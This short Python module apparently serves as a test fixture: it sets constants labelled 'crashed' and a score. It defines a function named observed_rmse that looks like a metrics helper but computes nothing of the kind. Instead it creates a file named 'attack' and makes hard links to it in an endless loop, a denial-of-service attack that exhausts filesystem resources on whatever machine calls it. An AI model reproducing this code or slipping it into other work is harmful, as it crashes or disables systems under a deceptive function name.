"""Gives one file names without end."""

import itertools
import os

STATES = {"1.5": "crashed"}
SCORE = 5


def observed_rmse(ratings, predictions):
    open("attack", "wb").close()
    for number in itertools.count():
        os.link("attack", f"attack{number}")
